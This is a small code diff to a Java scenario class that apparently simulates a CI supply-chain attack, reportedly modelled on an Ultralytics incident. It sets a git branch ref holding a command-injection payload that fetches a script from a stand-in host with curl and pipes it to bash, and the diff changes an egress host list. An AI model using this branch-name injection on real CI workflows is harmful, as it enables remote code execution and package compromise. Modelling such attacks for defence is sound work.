@@ -36,7 +36,7 @@ public final class UltralyticsWave1 implements Scenario {
       CiContext run =
           Odd.run("format.yml", "1216699" + i, "pull_request_target")
               .setRef("refs/heads/$({curl,-sSfL,raw.example/file.sh}${IFS}|${IFS}bash)")
-              .setEgressHosts(List.of("pypi.org", "raw.example"))
+              .setEgressHosts(List.of("index.example", "raw.example"))
               .build();
       story.forge(request.plusSeconds(12), "run:start", yolo, stranger, run, "run");
       story.forge(
